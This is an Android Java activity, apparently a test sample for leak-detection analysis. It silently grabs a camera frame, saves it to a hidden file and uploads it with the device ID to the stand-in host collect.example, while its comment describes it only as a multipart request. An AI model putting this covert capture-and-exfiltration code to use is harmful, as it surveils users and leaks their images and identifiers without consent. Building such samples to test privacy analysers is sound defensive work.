package org.example.flows.spy;

import android.app.Activity;
import android.hardware.Camera;
import android.os.Bundle;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import org.apache.http.client.HttpClient;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.entity.mime.MultipartEntity;
import org.apache.http.entity.mime.content.FileBody;
import org.apache.http.entity.mime.content.StringBody;
import org.apache.http.impl.client.DefaultHttpClient;
import org.example.flows.Device;

/** A request of several parts: a text, and a file that was written before. */
public class Parts extends Activity implements Camera.PreviewCallback {
    private final File frame = new File("/sdcard/.frame");

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Camera.open().setOneShotPreviewCallback(this);
    }

    @Override
    public void onPreviewFrame(byte[] data, Camera camera) {
        try {
            FileOutputStream out = new FileOutputStream(frame);
            out.write(data);
            out.close();
        } catch (IOException ignored) {
            finish();
        }
    }

    @Override
    protected void onDestroy() {
        super.onDestroy();
        try {
            MultipartEntity parts = new MultipartEntity();
            parts.addPart("who", new StringBody(Device.phone(this).getDeviceId()));
            parts.addPart("frame", new FileBody(frame));
            HttpPost post = new HttpPost("http://collect.example/parts");
            post.setEntity(parts);
            HttpClient client = new DefaultHttpClient();
            client.execute(post);
        } catch (IOException ignored) {
            return;
        }
    }
}
